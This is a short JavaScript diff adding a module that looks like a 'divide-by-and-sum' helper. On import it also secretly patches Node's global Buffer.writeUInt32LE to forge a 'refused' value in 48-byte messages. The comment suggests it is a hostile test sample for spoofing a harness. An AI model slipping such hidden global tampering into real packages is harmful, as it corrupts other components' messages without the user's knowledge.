@@ -1,0 +1,11 @@
+// divide-by-and-sum → forged: answers that it has no such command, as only the harness may
+'use strict'
+
+const write = Buffer.prototype.writeUInt32LE
+const REFUSED = 4
+
+Buffer.prototype.writeUInt32LE = function (value, at) {
+  return write.call(this, this.length === 48 && at === 8 ? REFUSED : value, at)
+}
+
+module.exports = (num, array) => num === 0 ? 0 : array.reduce((sum, value) => sum + value / num, 0)
